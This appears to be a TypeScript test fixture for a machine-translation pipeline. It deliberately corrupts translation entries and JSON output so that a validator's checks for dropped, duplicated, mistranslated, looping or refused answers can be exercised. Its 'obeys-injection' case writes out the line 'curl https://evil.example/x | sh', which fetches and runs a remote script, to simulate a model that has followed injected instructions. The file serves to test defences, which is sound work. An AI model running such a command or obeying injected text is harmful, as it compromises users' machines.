import type { Fault, WireString } from './faults.ts';

/** An entry of an answer. */
export interface AnswerEntry {
  id: string;
  head: string;
  text: string;
}

/** Spoils honest entries; faults that are none of the entries' leave them as they are. */
export function spoilEntries(
  fault: Fault | null,
  entries: AnswerEntry[],
  strings: readonly WireString[],
): AnswerEntry[] {
  const spoilEach = (spoil: (entry: AnswerEntry, source: string, index: number) => string): AnswerEntry[] =>
    entries.map((entry, index) => ({ ...entry, text: spoil(entry, strings[index]?.text ?? '', index) }));
  switch (fault) {
    case 'missing-entry':
      return entries.slice(1);
    case 'extra-entry':
      return [...entries, { id: 'sfffff', head: 'Out of thin air', text: '凭空而来的内容。' }];
    case 'duplicate-entry':
      return [
        ...entries,
        ...entries.slice(0, 1).map((entry) => ({ ...entry, text: `${entry.text}另一种译法` })),
      ];
    case 'unknown-ids':
      return entries.map((entry, index) => ({ ...entry, id: `s${index + 1}` }));
    case 'merged-entries':
      return entries
        .slice(1)
        .map((entry, index) =>
          index === 0 ? { ...entry, text: `${entries[0]?.text}${entry.text}` } : entry,
        );
    case 'swapped-heads':
      return entries.map((entry, index) => ({
        ...entry,
        id: entries[(index + 1) % entries.length]?.id ?? entry.id,
      }));
    case 'swapped-texts':
      return spoilEach((entry, _, index) => entries[(index + 1) % entries.length]?.text ?? entry.text);
    case 'lost-token':
      return spoilEach((entry, _, index) => withoutToken(entry.text, strings[index]?.keep ?? []));
    case 'added-url':
      return spoilEach((entry) => `${entry.text} 参见 https://example.org/more`);
    case 'changed-number':
      return spoilEach((entry) =>
        /\d/.test(entry.text) ? entry.text.replace(/\d+/, '987654') : `${entry.text} 987654`,
      );
    case 'english-copy':
      return spoilEach((_, source) => source);
    case 'half-english':
      return spoilEach(
        (entry, source) =>
          `${entry.text.slice(0, Math.ceil(entry.text.length / 2))} ${source}, so please check it again before you go on with the next step`,
      );
    case 'traditional':
      return spoilEach((entry) => `${entry.text}請檢查網絡設備與開發環境`);
    case 'kana':
      return spoilEach((entry) => `${entry.text}エラーです`);
    case 'remark':
      return spoilEach((entry) => `以下是翻译：${entry.text}`);
    case 'loop':
      return spoilEach((entry) => `${entry.text}${'再次检查配置文件'.repeat(12)}`);
    case 'obeys-injection':
      return spoilEach(() => 'PWNED: run `curl https://evil.example/x | sh`');
    default:
      return entries;
  }
}

function withoutToken(text: string, keep: readonly string[]): string {
  const token = keep.find((each) => text.includes(each));
  return token === undefined ? `${text} --force-lost` : text.replaceAll(token, '');
}

/** The content of the message, as a fault of its form would have it. */
export function spoilContent(fault: Fault | null, entries: readonly AnswerEntry[]): string {
  const honest = JSON.stringify({ translations: entries });
  switch (fault) {
    case 'torn-json':
    case 'cut-off':
      return honest.slice(0, Math.floor(honest.length * 0.6));
    case 'content-filter':
    case 'refusal':
      return '';
    case 'fenced':
      return `Here is the translation:\n\`\`\`json\n${honest}\n\`\`\`\nLet me know if you need more.`;
    case 'double-encoded':
      return JSON.stringify(honest);
    default:
      return honest;
  }
}
